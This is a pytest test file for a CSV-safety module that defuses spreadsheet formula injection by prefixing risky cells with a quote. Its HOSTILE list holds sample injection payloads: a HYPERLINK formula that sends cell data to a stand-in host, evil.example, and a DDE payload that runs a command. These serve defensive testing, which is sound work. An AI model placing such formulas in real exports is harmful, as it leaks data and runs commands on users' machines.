"""CSV cells that would start a spreadsheet formula get a leading quote; numbers stay numbers."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import ibis
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from segmint.mart.csv_safety import (
    FORMULA_STARTS,
    neutralise_cell,
    neutralise_frame,
    neutralise_table,
    to_csv,
)

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
]
SRC = Path(__file__).resolve().parents[2] / "src" / "segmint"


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_starts_a_formula_gets_a_leading_quote(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Champions", "", "a=b", "C-001", "'=already", None, -3.5, 7])
def test_anything_else_is_left_alone(value: object) -> None:
    assert neutralise_cell(value) == value


def test_csv_escapes_text_cells_and_names_but_keeps_negative_numbers() -> None:
    frame = pd.DataFrame(
        {
            "customer_id": ["=cmd", "C1", "-C2"],
            "@name": ["ok", "+33 6 12", None],
            "revenue": [-12.5, 3.0, 0.0],
            "mixed": pd.Series([-4, "-4", "x"], dtype=object),
            "flags": pd.Series([True, False, None], dtype=object),
            "orders": [-1, 2, 3],
            "segment": pd.Categorical(["=S", "Top", "=S"]),
        }
    )
    rows = list(csv.reader(io.StringIO(to_csv(frame))))
    assert rows[0] == ["customer_id", "'@name", "revenue", "mixed", "flags", "orders", "segment"]
    assert rows[1] == ["'=cmd", "ok", "-12.5", "-4", "True", "-1", "'=S"]
    assert rows[2] == ["C1", "'+33 6 12", "3.0", "'-4", "False", "2", "Top"]
    assert rows[3] == ["'-C2", "", "0.0", "x", "", "3", "'=S"]
    back = pd.read_csv(io.StringIO(to_csv(frame)))
    assert back.revenue.tolist() == [-12.5, 3.0, 0.0] and back.orders.dtype.kind == "i"
    assert frame.customer_id.tolist() == ["=cmd", "C1", "-C2"]  # the caller's frame is untouched


def test_the_index_is_escaped_when_written(tmp_path: Path) -> None:
    frame = pd.DataFrame({"members": [3, 4]}, index=pd.Index(["=A", "B"], name="segment"))
    to_csv(frame, tmp_path / "out.csv", index=True)
    assert (tmp_path / "out.csv").read_text().splitlines() == ["segment,members", "'=A,3", "B,4"]


@given(st.text(max_size=12))
def test_no_escaped_cell_can_start_a_formula_and_the_quote_is_all_that_is_added(
    value: str,
) -> None:
    escaped = neutralise_cell(value)
    assert not escaped.startswith(FORMULA_STARTS)
    assert escaped in (value, "'" + value)


def test_the_engine_escapes_like_pandas_does(tmp_path: Path) -> None:
    values = [*HOSTILE, "", "ok", None, "é", "a=1", "-"]
    table = ibis.memtable(
        {"id": values, "amount": [-float(i) for i in range(len(values))], "=col": values}
    )
    path = tmp_path / "engine.csv"
    ibis.duckdb.connect().to_csv(neutralise_table(table), path)
    expected = neutralise_frame(table.execute())
    written = list(csv.reader(path.open(newline="")))
    assert written[0] == ["id", "amount", "'=col"]
    assert [r[0] for r in written[1:]] == [v if isinstance(v, str) else "" for v in expected.id]
    assert [float(r[1]) for r in written[1:]] == expected.amount.tolist()


def test_every_csv_the_product_writes_goes_through_csv_safety() -> None:
    """No module but csv_safety (and the synthetic input files) calls a CSV writer itself."""
    allowed = {SRC / "mart" / "csv_safety.py", SRC / "synth" / "writer.py"}
    offenders = []
    for path in SRC.rglob("*.py"):
        if path in allowed:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr in ("to_csv", "write_csv")
                and not _is_safe_call(node)
            ):
                offenders.append(f"{path.relative_to(SRC)}:{node.lineno}")
    assert offenders == [], "use segmint.mart.csv_safety for these CSV writes"


def _is_safe_call(node: ast.Call) -> bool:
    """``csv_safety.to_csv(...)`` or ``neutralise_table(...).to_csv(...)``."""
    owner = node.func.value if isinstance(node.func, ast.Attribute) else None
    if isinstance(owner, ast.Name) and owner.id == "csv_safety":
        return True
    return (
        isinstance(owner, ast.Call)
        and isinstance(owner.func, ast.Name)
        and owner.func.id == "neutralise_table"
    )
